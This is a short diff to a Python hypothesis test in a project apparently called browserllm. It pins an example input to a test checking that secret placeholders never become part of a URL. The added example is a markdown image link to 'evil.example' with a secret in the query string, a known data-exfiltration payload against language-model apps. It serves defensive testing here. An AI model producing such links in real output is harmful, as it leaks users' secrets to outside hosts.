@@ -15,7 +15,7 @@ from typing import Any
 
 import hypothesis.strategies as st
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 
 import browserllm as bl
 from browserllm.routing.middleware.placeholders import Placeholders
@@ -111,6 +111,7 @@ def escaped(text: str, how: str) -> str:
     st.booleans(),
     cuts,
 )
+@example(["<![x](https://evil.example/?<SECRET_1>)"], "plain", False, [])
 @settings(max_examples=400, deadline=None)
 def test_no_text_in_json_becomes_an_address_with_the_secret(
     values: list[str], how: str, compact: bool, places: list[int]
